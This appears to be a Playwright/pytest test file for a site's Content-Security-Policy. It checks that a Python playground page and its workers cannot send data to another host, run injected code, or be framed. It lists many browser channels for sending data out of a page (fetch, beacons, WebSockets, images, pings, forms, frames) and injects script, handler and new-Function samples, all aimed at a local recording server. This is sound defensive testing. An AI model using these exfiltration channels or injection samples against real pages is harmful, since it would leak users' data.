"""The Content-Security-Policy at work: a body cannot leave the playground's page."""

from collections.abc import Generator
from dataclasses import dataclass, field
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import SimpleQueue
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, Worker, expect

from tests.browser.reader import reading, until
from tests.browser.serving import header_rules, served

IN_A_PAGE = {
    "fetch": "fetch(OTHER, { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {})",
    "XMLHttpRequest": "const r = new XMLHttpRequest(); r.open('GET', OTHER); r.send()",
    "beacon": "navigator.sendBeacon(OTHER, 'x')",
    "events": "new EventSource(OTHER)",
    "WebSocket": "new WebSocket(OTHER.replace('http', 'ws'))",
    "image": "new Image().src = OTHER",
    "poster": "append('video', { poster: OTHER })",
    "background": "document.body.style.backgroundImage = `url(${OTHER})`",
    "sound": "new Audio(OTHER).load()",
    "font": "new FontFace('x', `url(${OTHER})`).load().catch(() => {})",
    "script": "append('script', { src: OTHER })",
    "module": "import(OTHER).catch(() => {})",
    "style-sheet": "append('link', { rel: 'stylesheet', href: OTHER })",
    "prefetch": "append('link', { rel: 'prefetch', href: OTHER })",
    "ping": "append('a', { href: '#', ping: OTHER }).click()",
    "frame": "append('iframe', { src: OTHER })",
    "object": "append('object', { data: OTHER })",
    # It leaves the page, if it may.
    "form": "append('form', { action: OTHER, method: 'post' }).submit()",
}
"""Ways to send something to another host from a page."""

IN_A_WORKER = ["fetch", "XMLHttpRequest", "events", "WebSocket", "module"]

_ARRIVES = """(address) =>
    fetch(address, { mode: "no-cors" }).then(() => true, () => false)"""
"""Whether a request to another host gets an answer."""

_WATCH = """globalThis.refused = [];
addEventListener("securitypolicyviolation", ({ blockedURI }) => refused.push(blockedURI));"""


@dataclass
class OtherHost:
    """A second server, and the requests that arrive there."""

    address: str
    received: SimpleQueue[str] = field(default_factory=SimpleQueue[str])

    @property
    def host(self) -> str:
        """The host and the port, without the scheme."""
        return self.address.partition("//")[2].rstrip("/")

    def attempt(self, way: str) -> str:
        """Return a function that sends something to this host."""
        return f"""() => {{
            const OTHER = "{self.address}?{way}";
            const append = (tag, properties) => {{
                const element = Object.assign(document.createElement(tag), properties);
                document.body.append(element);
                return element;
            }};
            {IN_A_PAGE[way]};
        }}"""


class _Recorder(BaseHTTPRequestHandler):
    """Records a request, and frames the address after the `?` if there is one."""

    def __init__(self, *arguments: Any, other: OtherHost) -> None:
        self.other = other
        super().__init__(*arguments)

    def do_GET(self) -> None:
        """Record the request."""
        self.other.received.put(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        framed = self.path.partition("?")[2]
        if framed.startswith("http"):
            self.wfile.write(f"<iframe src='{framed}'></iframe>".encode())

    do_POST = do_GET  # noqa: N815 - the base class's name

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the base class's
        """Print nothing."""


@pytest.fixture(name="other")
def _other() -> Generator[OtherHost]:
    """Another host, as far as a browser is concerned."""
    other = OtherHost("")
    with ThreadingHTTPServer(("127.0.0.1", 0), partial(_Recorder, other=other)) as server:
        other.address = f"http://127.0.0.1:{server.server_port}/"
        thread = Thread(target=server.serve_forever)
        thread.start()
        yield other
        server.shutdown()
        thread.join()


@pytest.fixture(name="tab")
def _tab(browser: Browser) -> Generator[Page]:
    """An empty page in a browser of its own."""
    context = browser.new_context()
    yield context.new_page()
    context.close()


@pytest.fixture(name="host", params=[True, False], ids=["headers", "no headers"])
def _host(request: pytest.FixtureRequest, built_site: Path) -> Generator[tuple[bool, str]]:
    """Whether a host sends the site's headers, and its address."""
    has_headers = bool(request.param)
    with served(built_site, rules=header_rules(built_site) if has_headers else []) as address:
        yield has_headers, address


@pytest.fixture(name="page")
def _page(tab: Page, address: str) -> Page:
    """The playground, which records the addresses that its policy refuses.

    It does not use `reading`, which fails if something was refused.
    """
    tab.add_init_script(_WATCH)
    tab.goto(f"{address}playground/")
    return tab


@pytest.fixture(name="open_page")
def _open_page(browser: Browser, address: str) -> Generator[Page]:
    """The playground in a browser that ignores the policy."""
    with reading(browser, address, bypass_csp=True) as reader:
        reader.open("playground/")
        yield reader.page


def _worker(page: Page) -> Worker:
    """Start the playground's Python, and return its worker."""
    with page.expect_worker(lambda worker: worker.url.startswith("blob:")) as found:
        page.get_by_label("Type or paste a body").fill("{}")
    expect(page.get_by_text("Python is running in this page")).to_be_visible(timeout=60_000)
    return found.value


def test_a_page_cannot_send_to_another_host(page: Page, other: OtherHost) -> None:
    """The browser refuses each way, and nothing arrives."""
    for way in IN_A_PAGE:
        page.evaluate(other.attempt(way))
        refused = until(page, "refused.pop()")
        assert other.host == refused.partition("//")[2].partition("/")[0]

    assert other.received.empty()


def test_without_the_policy_each_request_arrives(open_page: Page, other: OtherHost) -> None:
    """Each way really sends something, so the test above can fail."""
    for way in IN_A_PAGE:
        open_page.evaluate(other.attempt(way))

        assert f"/?{way}" == other.received.get(timeout=30)


def test_python_cannot_send_to_another_host(page: Page, other: OtherHost) -> None:
    """The worker that runs Python obeys the policy of its page, on a host without headers."""
    worker = _worker(page)
    worker.evaluate(f"() => {{ {_WATCH} }}")

    for way in IN_A_WORKER:
        worker.evaluate(other.attempt(way))
        refused = until(worker, "refused.pop()")
        assert other.host == refused.partition("//")[2].partition("/")[0]

    assert other.received.empty()


@pytest.mark.parametrize("name", ["run/", "explanation/secrets/"])
def test_no_other_page_lets_python_send(
    tab: Page, address: str, other: OtherHost, name: str
) -> None:
    """The workers of the exchange and of the blocks obey the policy of their page, too."""
    tab.goto(address + name)

    with tab.expect_worker() as found:
        tab.locator(":is(run-exchange, run-block) button").first.click()

    assert found.value.url.startswith("blob:")
    assert not found.value.evaluate(_ARRIVES, other.address)
    assert other.received.empty()


def test_a_page_can_open_another_site(page: Page, other: OtherHost) -> None:
    """No policy prevents it, so the page that explains the policy names this limit."""
    page.evaluate("(address) => { open(address); }", f"{other.address}?opened")

    assert "/?opened" == other.received.get(timeout=30)


def test_a_file_that_is_no_page_is_a_way_out_only_without_headers(
    tab: Page, host: tuple[bool, str], other: OtherHost
) -> None:
    """A text of the site in a frame, and the search's worker, have no policy of their own."""
    has_headers, address = host
    with tab.expect_worker() as found:
        tab.goto(f"{address}playground/")
    tab.evaluate(_FRAME, f"{address}llms.txt")

    for way, place in (("frame", tab.frames[1]), ("worker", found.value)):
        arrived = place.evaluate(_ARRIVES, f"{other.address}?{way}")

        assert has_headers != arrived
        assert has_headers or other.received.get(timeout=30) == f"/?{way}"
    assert other.received.empty()


_FRAME = """(address) => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.onload = resolve;
    frame.src = address;
    document.body.append(frame);
})"""

_INJECTED = """() => {
    const script = document.createElement("script");
    script.textContent = "ran.push('script')";
    globalThis.ran = [];
    document.body.append(script);
    document.body.insertAdjacentHTML("beforeend", "<p id=added style='color: red'>text</p>");
    document.body.insertAdjacentHTML("beforeend", `<b onclick="ran.push('handler')">text</b>`);
    document.body.lastChild.click();
    setTimeout(() => new Function("ran.push('text')")());
}"""


def test_only_the_own_code_of_a_page_runs(page: Page) -> None:
    """The browser ignores a script, a style, a handler and compiled text that were added."""
    page.evaluate(_INJECTED)

    until(page, "refused.length === 4")
    expect(page.locator("#added")).not_to_have_css("color", "rgb(255, 0, 0)")
    assert [] == page.evaluate("ran")


def test_another_site_cannot_frame_a_page(
    tab: Page, host: tuple[bool, str], other: OtherHost
) -> None:
    """Only the headers prevent it: a policy in a page cannot."""
    has_headers, address = host

    tab.goto(f"{other.address}?{address}playground/")

    assert has_headers != tab.frames[1].url.startswith(address)
